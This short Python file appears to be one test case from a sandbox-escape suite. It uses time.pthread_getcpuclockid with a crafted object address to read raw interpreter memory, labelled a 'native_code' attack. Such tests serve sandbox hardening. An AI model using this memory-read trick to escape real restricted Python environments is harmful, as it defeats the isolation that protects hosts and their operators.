# class: machine_code
# rule: native_code
# success: memory at an address is read by time.pthread_getcpuclockid, which takes the address of a
#   thread
# proof: word
import struct
import time

from attack import attempt


@attempt
def read():
    numbers = struct.pack("4096I", *range(100000, 104096))
    clock = time.pthread_getcpuclockid(id(numbers) + 32)
    return 100000 <= ~(clock >> 3) < 104096
